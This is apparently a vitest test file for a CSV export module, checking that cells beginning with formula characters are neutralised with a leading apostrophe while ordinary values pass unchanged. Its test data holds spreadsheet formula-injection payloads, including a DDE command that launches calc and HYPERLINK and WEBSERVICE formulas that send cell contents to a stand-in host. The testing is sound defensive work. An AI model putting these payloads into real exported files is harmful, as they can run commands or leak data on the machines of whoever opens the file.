import { expect, test } from 'vitest'
import { readCsv, writeCsv } from '../src/csv-table.ts'

/** What programs that open a file of cells would reckon with, run or fetch. */
const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '＝1+1', '＋1', '－1+1', '＠SUM(A1)', ' =1+1', '　=1+1', '\uFEFF=1+1'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\tcell', '--1', '-1-1', '-', '=cmd|" /C calc"!A0'],
  ...['=HYPERLINK("https://evil.example?"&A1)', '=WEBSERVICE("https://evil.example")', '-2+3+cmd|x!A0'],
]

test.each(formulas)('a cell that is %j is a text', (cell) => {
  expect(readCsv(writeCsv([[cell, 'end']]))).toEqual([{ line: 1, cells: [`'${cell}`, 'end'] }])
})

test.each(['0.00', '-12.50', '-3', '1130.00', '2026-03-05', 'ICBC', '宝钢 = Baogang', 'a-b', ''])(
  'a cell that is %j stays as it is',
  (cell) => {
    expect(writeCsv([[cell, 'end']])).toBe(`${cell},end\r\n`)
  },
)

test.each([';', '\t', '|', ',', '\n', '\r', '"'])(
  'no formula begins behind %j, whatever separates cells where the file is opened',
  (separator) => {
    const cell = `Baogang${separator}=1+1`
    expect(writeCsv([[cell]])).toBe(`"${cell.replaceAll('"', '""')}"\r\n`)
    expect(readCsv(writeCsv([[cell]]))).toEqual([{ line: 1, cells: [cell] }])
  },
)
